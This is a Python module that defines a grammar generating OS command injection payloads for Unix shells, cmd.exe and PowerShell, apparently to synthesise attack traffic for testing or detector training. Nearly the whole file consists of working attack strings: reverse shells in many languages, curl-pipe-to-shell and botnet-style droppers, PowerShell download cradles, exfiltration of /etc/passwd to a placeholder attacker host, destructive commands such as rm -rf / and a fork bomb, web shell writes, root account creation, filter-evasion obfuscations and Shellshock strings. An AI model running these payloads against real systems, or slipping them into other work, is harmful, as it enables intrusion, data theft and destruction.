"""Operating system command injection: a separator, a command, and what hides either.

Commands and separators after the POSIX shell, cmd.exe and PowerShell manuals; hiding places after
the techniques commix documents; Shellshock after CVE-2014-6271.
"""

from traffic.grammars.attacks.pieces import Grammar, Symbols

# Tables: as many alternatives to a line as fit.
# fmt: off
_SYMBOLS: Symbols = {
    "in": (
        "", "", "", "‹val›", "‹n›", "‹ip›", "127.0.0.1", "‹word›", "‹id›.‹jpg¦pdf¦txt¦png›",
        "‹name›@‹word›.com", "‹words›", "‹rnd›", "localhost", "'", '"', "')", "‹id›'", '‹id›"',
        "8.8.8.8",
    ),
    "sep": (
        ";", ";", "; ", " ; ", "|", "|", " | ", "||", " || ", "&", " & ", "&&", " && ", "\n",
        "\r\n", "%0a", "%0d%0a", "%26", "%26%26", "%3b", "%7c", ";;", "|&", ";\n", "';", '";', "'|",
        '"|', "'&&", "`\n", "\\n", "%0A ", "%1a", "\x1a", "$;",
    ),
    "end": (
        "", "", "", "", ";", " #", "#", "|", "&", " &", " 2>&1", "\n", "%0a", " ;", " ||", "'", '"',
        " --", "\\", ";echo ‹rnd›", " > /dev/null", " 2>/dev/null", " && ‹word›", " |‹word›", ";'",
        '";', " ‹word›", "`", "%00",
    ),
    "s": (
        " ", " ", " ", " ", " ", "${IFS}", "$IFS", "$IFS$9", "${IFS%??}", "\t", "%20", "+", "%09",
        "<", "${IFS}$‹d›", "  ",
    ),
    "path": (
        "/etc/passwd", "/etc/passwd", "/etc/shadow", "/etc/hosts", "/", "/tmp", "/var/www", "..",
        "-la", "-al /", "/home", "/etc/issue", "/proc/version", "/root/.ssh/id_rsa",
        "~/.bash_history", "/etc/os-release", "config.php", "/var/log/auth.log", "/etc/‹id›",
        "/tmp/‹id›", "/???/p??s??", "/e?c/p*d", "/etc/pass*", ".env", "/flag", "flag.txt", "$HOME",
        "/proc/self/environ", "../../‹id›",
    ),
    "bin": (
        "", "", "", "", "/bin/", "/usr/bin/", "/b?n/", "/???/", "\\", "command ", "sudo ",
        "busybox ", "exec ", "env ", "nohup ", "/usr/local/bin/", "time ", "builtin ",
    ),
    "alone": (
        "id", "whoami", "uname‹s›-a", "ls", "ls‹s›-la", "pwd", "hostname", "ps‹s›aux", "ps -ef",
        "printenv", "ifconfig", "ip‹s›a", "netstat‹s›-an", "netstat -tulpn", "df -h", "uptime",
        "crontab -l", "id;whoami", "ss -lntp", "cat /etc/*release", "arp -a", "dmesg",
        "lsb_release -a", "sudo -l", "free -m",
    ),
    "read": (
        "cat", "cat", "cat", "cat", "less", "more", "head", "tail", "tac", "nl", "strings", "od -c",
        "xxd", "base64", "sort", "rev", "cut -c1-", "awk 1", "sed ''", "grep root", "vi", "find",
        "ls", "file", "cp", "dd if=", "diff", "paste", "xargs", "tee", "wc -l", "uniq", "fold",
        "pr",
    ),
    "secs": lambda rng: str(rng.randint(1, 60)),
    "net": (
        "curl‹s›‹url›", "wget‹s›‹url›", "curl -s ‹url›", "wget -q -O- ‹url›", "nslookup‹s›‹evil›",
        "nslookup -q=cname ‹evil›", "ping‹s›-c‹s›‹d›‹s›‹evil›", "ping -c ‹secs› 127.0.0.1",
        "ping -n ‹secs› ‹lan›", "dig‹s›‹evil›", "dig +short ‹evil›", "host ‹evil›",
        "curl ‹evil›/`whoami`", "curl http://‹evil›/$(id|base64)", "wget ‹url› -O /tmp/‹id›",
        "curl -F 'f=@/etc/passwd' ‹url›", "curl -d @/etc/passwd ‹url›",
        "wget --post-file=/etc/passwd ‹url›", "telnet ‹ip› ‹port›", "ftp ‹ip›", "tftp ‹ip›",
        "fetch ‹url›", "curl -o /tmp/‹id› ‹url›", "nc ‹ip› ‹port›", "ssh ‹name›@‹ip›",
        "scp /etc/passwd ‹name›@‹evil›:/tmp", "lynx -source ‹url›",
        "rsync /etc/passwd ‹evil›::‹abc›",
    ),
    "delay": (
        "sleep‹s›‹secs›", "sleep ‹secs›s", "ping -c ‹secs› 127.0.0.1", "ping -n ‹secs› 127.0.0.1",
        "timeout /T ‹secs›", "usleep ‹n›000", "read -t ‹secs›", "timeout ‹secs› yes",
        "sleep $((‹d›*‹d›))", "perl -e 'sleep ‹secs›'",
        "python -c 'import time;time.sleep(‹secs›)'", "start-sleep -s ‹secs›",
    ),
    "write": (
        "echo‹s›‹rnd›", "echo ‹n›", "echo $((‹n›+‹n›))", "echo ‹rnd›$((‹n›+‹n›))$(echo ‹rnd›)‹rnd›",
        "echo ‹b64s›|base64 -d|sh", "touch‹s›/tmp/‹id›",
        "rm -rf ‹/¦/*¦~¦/tmp/‹id›¦.¦--no-preserve-root /›",
        "echo '<?php system($_GET[‹abc›]);?>'>‹id›.php", "printf '‹rnd›'", "expr‹s›‹n› + ‹n›",
        "mkdir /tmp/‹id›", "chmod‹s›777‹s›‹/tmp/‹id›¦/etc/passwd¦.›",
        "echo '‹id›:x:0:0::/root:/bin/sh'>>/etc/passwd", "kill -9 ‹n›", "kill -9 -1",
        "shutdown -h now", "reboot", "killall -9 ‹httpd¦nginx¦java›", "useradd -o -u 0 ‹id›",
        "echo ‹b64s›>>~/.ssh/authorized_keys", "crontab -r", "mv ‹id›.txt ‹id›.php",
        "md5sum‹s›/etc/passwd", "echo -n ‹rnd›|md5sum", "tar cf /tmp/‹id›.tar /etc",
        "dd if=/dev/zero of=/dev/sda", "mkfs.ext4 /dev/sda‹d›", ":(){ :|:& };:",
    ),
    "unixcmd": (
        "‹bin›‹alone›", "‹bin›‹alone›", "‹bin›‹read›‹s›‹path›", "‹bin›‹read›‹s›‹path›",
        "‹bin›cat‹s›/etc/passwd", "‹net›", "‹net›", "‹delay›", "‹write›",
    ),
    "wincmd": (
        "dir", "dir C:\\", "dir‹s›c:\\‹id›", "type‹s›%SYSTEMROOT%\\win.ini", "type C:\\boot.ini",
        "type c:\\windows\\‹win.ini¦system32\\drivers\\etc\\hosts›", "ipconfig", "ipconfig /all",
        "net user", "net user ‹id› ‹rand› /add", "net localgroup administrators ‹id› /add",
        "systeminfo", "whoami /‹all¦priv¦groups›", "tasklist", "netstat -ano",
        "cmd /c ‹dir¦whoami¦ver¦calc›",
        "cmd.exe /c ‹ping -n ‹secs› ‹evil›¦echo ‹rnd›¦nslookup ‹evil››",
        "certutil -urlcache -split -f ‹url› ‹id›.exe",
        "bitsadmin /transfer ‹id› ‹url› c:\\‹id›.exe", "del /q /s c:\\*", "echo %USERNAME%",
        "mshta ‹url›/‹id›.hta", "regsvr32 /s /n /u /i:‹url›/‹id›.sct scrobj.dll",
        "rundll32 \\\\‹ip›\\‹abc›\\‹id›.dll,‹id›", "wmic process call create 'calc'", "start calc",
        "taskkill /F /IM ‹id›.exe", "reg add HKLM\\Software\\‹id› /v ‹id› /d ‹id›",
        "wscript ‹id›.vbs", "format c: /y", "tree c:\\", "c^m^d /c w^h^o^a^m^i",
        "cscript //nologo ‹id›.vbs", "sc query", "schtasks /create /tn ‹id› /tr calc",
    ),
    "ps": (
        "powershell -enc ‹b64›", "powershell -nop -w hidden -e ‹b64›",
        'powershell -c "iex(New-Object Net.WebClient).DownloadString(\'‹url›\')"',
        "powershell.exe -ExecutionPolicy Bypass -File \\\\‹ip›\\‹id›.ps1",
        "IEX(IWR -UseBasicParsing '‹url›')", "powershell Invoke-WebRequest ‹url› -OutFile ‹id›.exe",
        "pwsh -c Get-‹Process¦ChildItem¦Service¦Content C:\\‹id›.txt›",
        "powershell Start-Sleep -s ‹secs›",
        "powershell (New-Object System.Net.WebClient).DownloadFile('‹url›','‹id›.exe')",
        "$c=New-Object System.Net.Sockets.TCPClient('‹ip›',‹port›);$s=$c.GetStream()",
        "Invoke-Expression ‹(‹id›)¦$env:‹id››", "powershell -c [char]‹n›+[char]‹n›",
        "Get-WmiObject -Class Win32_‹Process¦OperatingSystem¦Service›",
        "powershell -v 2 -c ‹whoami¦ls¦gci env:›",
        "[System.Diagnostics.Process]::Start('‹calc¦cmd›')",
    ),
    "any": ("‹unixcmd›", "‹unixcmd›", "‹unixcmd›", "‹wincmd›", "‹hidden›"),
    "hidden": (
        'c‹\'¦"¦\\¦$@¦\'\'¦""¦${‹abc›}¦$*›at‹s›/etc/pa‹\'¦"¦\\¦$@¦\'\'›sswd', "w'h'o'am'i",
        "wh\\oa\\mi", 'w"h"o"a"mi', "who$@ami", "i''d", "'i'd", "l\\s -la", "/???/c?t /???/p??s??",
        "/b'i'n/c'a't /e't'c/p'a's's'w'd", "a=‹c;b=at;$a$b¦l;b=s;$a$b¦who;b=ami;$a$b› /etc/passwd",
        "$(rev<<<imaohw)", "$(tr '[A-Z]' '[a-z]'<<<WhOaMi)", "bash<<<$(base64 -d<<<‹b64s›)",
        "echo ‹b64s›|base64 -d|bash", "{cat,/etc/passwd}", "{ls,-la,/}", "{curl,‹url›}",
        "cat<>/etc/passwd", "cat</etc/passwd", "X=$'cat\\x20/etc/passwd'&&$X",
        "IFS=,;`cat<<<cat,/etc/passwd`", "eval $(printf '\\x69\\x64')",
        "$'\\x63\\x61\\x74' /etc/passwd", "${PATH:0:1}bin${PATH:0:1}id",
        "cat ${HOME:0:1}etc${HOME:0:1}passwd", "echo${IFS}‹b64s›|base64${IFS}-d|sh",
        "xxd -r -p<<<‹hex›|sh", "$(echo ‹b64s›|base64 -d)", "printf${IFS}'\\151\\144'|sh",
        "c\\\nat /etc/passwd", "nice -n 5 cat${IFS}/etc/passwd", "test;;cat /e*c/p*d",
        "${‹id›:-cat} /etc/passwd", "$0<<<$'\\‹d›57\\151\\144'", "cat /et*/pas*wd", "$(a=id;$a)",
        "`echo aWQ=|base64 -d`", "uname${IFS}-a", "p$‹d›ing -c ‹d› ‹evil›",
    ),
    "shell": (
        "bash -i >& /dev/tcp/‹ip›/‹port› 0>&1", "bash -c 'bash -i >& /dev/tcp/‹ip›/‹port› 0>&1'",
        "nc -e /bin/sh ‹ip› ‹port›", "nc -lvp ‹port› -e /bin/bash", "nc ‹ip› ‹port› -c sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc ‹ip› ‹port› >/tmp/f",
        "sh -i >& /dev/udp/‹ip›/‹port› 0>&1",
        "0<&196;exec 196<>/dev/tcp/‹ip›/‹port›; sh <&196 >&196 2>&196",
        'python‹¦3› -c \'import socket,subprocess,os;s=socket.socket();s.connect(("‹ip›",‹port›));'
        'os.dup2(s.fileno(),0);subprocess.call(["/bin/sh","-i"])\'',
        'perl -e \'use Socket;$i="‹ip›";$p=‹port›;socket(S,PF_INET,SOCK_STREAM,'
        'getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));exec("/bin/sh -i");\'',
        'php -r \'$sock=fsockopen("‹ip›",‹port›);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        'ruby -rsocket -e\'f=TCPSocket.open("‹ip›",‹port›).to_i;exec sprintf("/bin/sh -i <&%d >'
        '&%d",f,f)\'',
        "socat tcp-connect:‹ip›:‹port› exec:/bin/sh,pty,stderr", "ncat ‹ip› ‹port› -e cmd.exe",
        "telnet ‹ip› ‹port› | /bin/sh | telnet ‹ip› ‹port›",
        "mknod /tmp/‹abc#1› p;telnet ‹ip› ‹port› 0</tmp/‹abc#1›|sh 1>/tmp/‹abc#1›",
        'awk \'BEGIN{s="/inet/tcp/0/‹ip›/‹port›";while(1){s|&getline c;system(c)}}\'',
        "exec 5<>/dev/tcp/‹ip›/‹port›;cat <&5|while read line;do $line 2>&5 >&5;done",
        "openssl s_client -quiet -connect ‹ip›:‹port›|/bin/sh",
        'lua -e "require(\'socket\');t=socket.tcp();t:connect(\'‹ip›\',\'‹port›\');'
        'os.execute(\'/bin/sh -i\')"',
    ),
    "drop": (
        "curl ‹-s ¦-fsSL ¦¦-k ›‹url›‹.sh¦›|‹sh¦bash¦sudo bash¦python›",
        "wget ‹-q ¦›-O- ‹url›|‹sh¦bash›", "cd /tmp;wget ‹url›/‹id›.sh;chmod 777 ‹id›.sh;sh ‹id›.sh",
        "cd /tmp||cd /var/run||cd /mnt; rm -rf ‹id›; wget ‹url›; chmod +x ‹id›; ./‹id›",
        "busybox wget ‹url› -O /tmp/‹id#1›;sh /tmp/‹id#1›", "bash <(curl -s ‹url›)",
        'sh -c "$(curl -fsSL ‹url›)"',
        "wget ‹url›/‹mips¦arm7¦x86¦mpsl› -O -> /tmp/‹abc#1›;chmod 777 /tmp/‹abc#1›;/tmp/‹abc#1›",
        "tftp -g -r ‹id#1› ‹ip›;sh ‹id#1›", "(curl -s ‹url›||wget -q -O- ‹url›)|bash",
        "cd /tmp;curl -O ‹url›/‹id›;perl ‹id›;rm -f ‹id›",
        'python -c "import urllib2;exec(urllib2.urlopen(\'‹url›\').read())"',
    ),
}

_GRAMMAR = Grammar(_SYMBOLS)

RULES = _GRAMMAR.rules(
    separated=(
        "‹in›‹sep›‹unixcmd›‹end›", "‹in›‹sep›‹any›‹end›", "‹in›‹sep›‹unixcmd›",
        "‹in›‹sep›‹unixcmd›‹sep›‹unixcmd›",
    ),
    short=(
        "‹n?›‹sep›‹alone›‹end›", "‹sep›‹bin›‹alone›‹end›",
        "‹val›‹sep›‹id¦whoami¦ls¦dir¦pwd¦uname -a›‹end›",
        "‹sep›‹s›‹id¦whoami¦ls -la¦cat /etc/passwd›‹end›",
    ),
    read_file=(
        "‹in›‹sep›‹bin›‹read›‹s›‹path›‹end›",
        "‹in›‹sep›cat‹s›/etc/‹passwd¦shadow¦hosts¦group¦issue›‹end›",
        "‹in›‹sep›‹bin›cat ‹path› ‹path›‹end›", "‹bin›cat‹s›/etc/‹passwd¦shadow›‹end›",
    ),
    backticks=(
        "‹in›`‹any›`", "‹in›`‹unixcmd›`‹end›", "`‹net›`", '‹in›"`‹unixcmd›`"', "‹id›=`‹unixcmd›`",
        "‹in›‹sep›echo `‹unixcmd›`",
    ),
    substitution=(
        "‹in›$(‹any›)", "‹in›$(‹unixcmd›)‹end›", '‹in›"$(‹unixcmd›)"', "$(‹net›)",
        "‹in›${‹id›:-$(‹unixcmd›)}", "‹in›‹sep›echo $(‹unixcmd›)", "‹in›<(‹unixcmd›)",
        "‹in›$(sleep ‹secs›)‹end›", "$(‹read› ‹path›)",
    ),
    timing=(
        "‹in›‹sep›‹delay›‹end›", "‹in›`‹delay›`", "‹in›$(‹delay›)",
        "‹in›‹sep›if [ $(whoami|cut -c‹d›) == ‹abc› ]; then sleep ‹secs›; fi",
        "‹in›‹sep›[ ‹d› -‹eq¦ne¦gt› ‹n› ] && sleep ‹secs›", "‹in›|(‹delay›)|‹abc›",
        "‹in›&(‹delay›)&", "‹in›'&ping -n ‹secs› 127.0.0.1&'",
    ),
    out_of_band=(
        "‹in›‹sep›‹net›‹end›", "‹in›`‹net›`", "‹in›$(‹net›)‹end›",
        "‹in›‹sep›nslookup `whoami`.‹evil›‹end›", "‹in›‹sep›curl ‹url›/?‹abc›=$(‹alone›)",
        "‹in›‹sep›wget ‹url›?`‹read› ‹path›`", "‹in›‹sep›for i in $(ls /);do host $i.‹evil›;done",
    ),
    windows=(
        '‹in›‹& ¦&¦| ¦|¦&& ¦|| ¦%26 ¦\n¦"&¦\'|›‹wincmd›‹end›', "‹in›‹&¦|¦&&›‹wincmd›&‹wincmd›",
        "cmd.exe /c ‹wincmd›", "‹in›|| cmd /c ‹wincmd›", "%COMSPEC% /c ‹wincmd›",
        '‹in›"&‹wincmd›&"', "‹in›&for /f %i in ('‹wincmd›') do ping %i.‹evil›",
    ),
    powershell=("‹in›‹;¦|¦&¦&&¦|| ›‹ps›", "‹ps›", "‹ps›‹end›", "‹in›$(‹ps›)", "cmd /c ‹ps›"),
    quoted_apart=(
        "‹in›‹sep›‹hidden›‹end›", "‹hidden›‹end›", "‹in›$(‹hidden›)", "‹in›`‹hidden›`",
        "‹in›‹sep›‹hidden›‹sep›",
    ),
    reverse_shell=(
        "‹in›‹sep›‹shell›‹end›", "‹shell›", "‹in›$(‹shell›)", "‹in›`‹shell›`", "‹in›‹sep›‹shell› #",
    ),
    download_and_run=(
        "‹in›‹sep›‹drop›‹end›", "‹drop›", "‹in›$(‹drop›)", "‹in›`‹drop›`", "‹drop›‹end›",
    ),
    shellshock=(
        "() { ‹:;¦:; ¦‹abc›;¦_;› }; ‹unixcmd›",
        "() { :;};‹sp?›‹/bin/bash -c '‹unixcmd›'¦echo ‹rnd›¦/usr/bin/env cat /etc/passwd›",
        "() { :; }; echo; echo; ‹/bin/bash -c¦/bin/sh -c› '‹unixcmd›'",
        "() { _; } >_[$($())] { ‹unixcmd›; }", "() { ignored; }; ‹unixcmd›",
        'env x=\'() { :;}; echo ‹rnd›\' bash -c "echo ‹rnd›"', "() { :;};a=`‹unixcmd›`;echo $a",
        "(){ :;}; ‹net›", "() { :;}; ‹shell›",
    ),
    bare_command=(
        "cat /etc/‹passwd¦shadow¦issue¦crontab› ‹end›", "‹bin›cat ‹path›;‹alone›",
        "/bin/‹ba¦z¦k¦da¦›sh -c '‹unixcmd›'", "sh -c '‹unixcmd›'",
        "busybox ‹wget¦nc¦telnetd¦ping¦cat› ‹ip›‹end›", "/usr/bin/id;‹alone›",
        "ping -c ‹d› `‹alone›`.‹evil›", "rm -rf /‹tmp/¦var/¦home/¦¦*¦etc/›‹id›",
        'python‹¦3› -c "import os;os.system(\'‹unixcmd›\')"', 'perl -e \'system("‹unixcmd›")\'',
        "ruby -e 'puts `‹unixcmd›`'", 'php -r \'system("‹unixcmd›");\'',
        'node -e "require(\'child_process\').exec(\'‹unixcmd›\')"',
        "find / -name ‹id› -exec ‹unixcmd› \\;", "xterm -display ‹ip›:‹d›", "whoami && ‹unixcmd›",
        "id;‹unixcmd›", 'awk \'BEGIN {system("‹unixcmd›")}\'', "env -i ‹unixcmd›;‹alone›",
        "/bin/cat</etc/passwd‹end›",
    ),
    arguments=(
        "-oProxyCommand=‹unixcmd›", "--‹use-compress-program¦checkpoint-action=exec›=‹unixcmd›",
        "--upload-pack=`‹unixcmd›`", "--output=/var/www/‹id›.php", "-exec ‹unixcmd› ;",
        "-K /etc/passwd -o /tmp/‹id›", "‹val› --config='‹/tmp/¦\\\\‹ip›\\›‹id›' -x '‹unixcmd›'",
        "-OQueueDirectory=/tmp -X/var/www/html/‹id›.php", "--rsh='‹unixcmd›'", "-e'!‹unixcmd›'",
        "|‹unixcmd›|", "‹url› -o /var/www/html/‹id›.php", "ext::sh -c ‹unixcmd›",
        "--post-file=/etc/‹passwd¦shadow› ‹url›", "-D/tmp/‹id›;‹alone›",
    ),
    in_context=(
        "‹ip›‹;¦|¦&&¦ && ¦%0a›‹unixcmd›", "‹words›; ‹unixcmd›", "‹id›.‹jpg¦zip¦pdf¦mp4›;‹unixcmd›;",
        "‹id›.‹tar¦png›`‹alone›`", "‹name›@‹word›.com|‹unixcmd›", "‹url› | ‹unixcmd›",
        "‹words› && ‹unixcmd› && ‹words›", '"‹id›";‹unixcmd›;"', "'‹id›';‹unixcmd›;'",
        '{"‹id›":"‹ip›;‹unixcmd›"}', "‹val›\n‹unixcmd›\n", "‹id›=‹val›;‹unixcmd›",
        "'; ‹unixcmd›; echo '", '" && ‹unixcmd› && echo "',
        "/‹word›?‹cmd¦exec¦command¦ping¦ip¦host›=‹alone›;‹unixcmd›", "‹val›)‹sep›‹unixcmd›",
    ),
)
